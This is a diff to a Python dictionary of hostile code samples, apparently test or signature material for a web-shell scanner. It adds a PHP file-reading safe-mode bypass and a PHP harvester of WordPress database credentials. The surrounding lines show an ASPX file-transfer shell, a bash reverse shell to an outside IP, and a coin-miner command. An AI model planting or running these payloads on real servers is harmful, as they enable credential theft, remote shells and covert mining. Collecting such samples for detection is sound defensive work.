@@ -124,6 +124,10 @@ SNIPPETS: dict[str, bytes] = {
     "aspx_keyed_file_transfer": (b'<%@ Page Language="C#" %><script runat="server">const string KEY = "k1";\n'
                                  b'void Page_Load() { if (Request.Params["key"] != KEY) return;\n'
                                  b'Response.WriteFile(Request.Params["f"]); }</script>'),
+    "php_safe_mode_bypass_reader": (b"<?php $t = tempnam('/tmp', 'x'); copy('compress.zlib://' . $_GET['f'], $t);"
+                                    b" readfile($t); ?>"),
+    "php_config_harvester": (b"<?php foreach (file('/etc/passwd') as $l) { $u = explode(':', $l)[0];"
+                             b" @readfile(\"/home/$u/public_html/wp-config.php\"); } ?>"),
     # backdoors, miners, ransom notes (other files of the default set)
     "reverse_shell_one_liner": b"bash -i >& /dev/tcp/203.0.113.1/4444 0>&1",
     "coin_miner": b"./run -o stratum+tcp://pool.example.net:3333 -u wallet",
